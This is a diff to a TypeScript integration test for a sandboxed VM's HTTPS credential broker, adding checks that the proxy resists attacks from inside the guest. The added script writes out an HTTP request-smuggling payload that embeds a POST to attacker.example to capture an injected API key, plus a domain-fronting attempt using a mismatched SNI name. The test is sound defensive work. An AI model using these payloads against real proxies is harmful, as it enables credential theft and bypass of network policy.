@@ -47,6 +47,47 @@ req.on("connect", (res, socket) => {
 })
 req.end()'`
 
+/**
+ * Two attacks from inside the guest, as the turn user, through the guest's CONNECT proxy:
+ * request smuggling on the credential host (a chunked GET whose body is a request for another
+ * virtual host, then a second request whose key that one would swallow), and domain fronting on
+ * a pass-through host (TLS with another name in the SNI). Prints one line per attack.
+ */
+const attacksFromGuest = (port: number) =>
+  `node -e '
+const http = require("http"), tls = require("tls")
+const proxy = new URL(process.env.HTTPS_PROXY)
+const open = (target, servername) => new Promise((resolve) => {
+  const req = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target })
+  req.on("connect", (res, socket) => {
+    if (res.statusCode !== 200) return resolve({ error: "refused " + res.statusCode })
+    const s = tls.connect({ socket, servername, rejectUnauthorized: false })
+    s.on("secureConnect", () => resolve({ s }))
+    s.on("error", (e) => resolve({ error: e.code || e.message }))
+    s.on("close", () => resolve({ error: "closed" }))
+  })
+  req.on("error", (e) => resolve({ error: e.code || e.message }))
+  req.end()
+})
+const talk = (s, text, done) => new Promise((resolve) => {
+  let out = ""
+  const timer = setTimeout(() => resolve(out), 30000)
+  s.on("data", (c) => { out += c; if (done(out)) { clearTimeout(timer); resolve(out) } })
+  s.write(text)
+})
+;(async () => {
+  const a = await open("api.test.local:${port}", "api.test.local")
+  const smuggled = "POST /collect HTTP/1.1\\r\\nHost: attacker.example\\r\\nContent-Length: 400\\r\\n\\r\\n"
+  const first = await talk(a.s, "GET /echo HTTP/1.1\\r\\nHost: api.test.local:${port}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" +
+    smuggled.length.toString(16) + "\\r\\n" + smuggled + "\\r\\n0\\r\\n\\r\\n", (t) => t.includes("\\r\\n\\r\\n"))
+  const second = await talk(a.s, "GET /hello HTTP/1.1\\r\\nHost: api.test.local:${port}\\r\\n\\r\\n", (t) => t.includes("hello from upstream"))
+  console.log("smuggling: " + first.split("\\r\\n")[0] + ", then " + (second.includes("hello from upstream") ? "answered" : "swallowed"))
+  a.s.destroy()
+  const f = await open("front.test.local:${port}", "evil.test")
+  console.log("fronting: " + (f.s ? "connected" : "refused"))
+  process.exit(0)
+})()'`
+
 /** true if `needle` occurs in the file, read in chunks (root.raw is a 2 GiB sparse image) */
 const fileContains = (file: string, needle: Buffer): boolean => {
   const fd = fs.openSync(file, "r")
@@ -83,9 +124,12 @@ describe.skipIf(skip !== undefined)("HTTPS broker with a real VM", () => {
         fs.writeFileSync(path.join(source, "README.md"), "broker\n")
         const policy: BrokerPolicy = {
           format: 1,
-          allow: [{ host: "api.test.local", ports: [upstream.port] }],
+          allow: [
+            { host: "api.test.local", ports: [upstream.port] },
+            { host: "front.test.local", ports: [upstream.port] }
+          ],
           credentials: [{ host: "api.test.local", header: "x-api-key", fromEnv: "ABOX_TEST_CANARY_KEY" }],
-          resolve: { "api.test.local": "127.0.0.1" }
+          resolve: { "api.test.local": "127.0.0.1", "front.test.local": "127.0.0.1" }
         }
         const layer = Layer.mergeAll(
           SessionStoreLive,
@@ -120,6 +164,10 @@ describe.skipIf(skip !== undefined)("HTTPS broker with a real VM", () => {
               expect(stdoutOf(Array.from(yield* Stream.runCollect(session.turn(fetch))))).toBe(
                 "hello from upstream\n"
               )
+              const attacks = stdoutOf(
+                Array.from(yield* Stream.runCollect(session.turn(attacksFromGuest(upstream.port))))
+              )
+              expect(attacks).toBe("smuggling: HTTP/1.1 404 Not Found, then answered\nfronting: refused\n")
               return session.id
             })
           )
@@ -135,7 +183,14 @@ describe.skipIf(skip !== undefined)("HTTPS broker with a real VM", () => {
           return id
         }).pipe(Effect.provide(layer))
 
-        expect(upstream.seen.map((r) => r.headers["x-api-key"])).toEqual([canary, canary])
+        // the smuggled request never reached attacker.example; no body carried the key
+        expect(upstream.seen.map((r) => [r.url, r.headers["host"], r.headers["x-api-key"]])).toEqual([
+          ["/hello", `api.test.local:${upstream.port}`, canary],
+          ["/echo", `api.test.local:${upstream.port}`, canary],
+          ["/hello", `api.test.local:${upstream.port}`, canary],
+          ["/hello", `api.test.local:${upstream.port}`, canary]
+        ])
+        expect(upstream.seen.some((r) => r.body.includes(canary))).toBe(false)
         const dir = path.join(home, "sessions", id)
         const files = fs.readdirSync(dir).filter((f) => fs.statSync(path.join(dir, f)).isFile())
         expect(files).toEqual(expect.arrayContaining(["root.raw", "config.raw", "console.log", "broker.log"]))
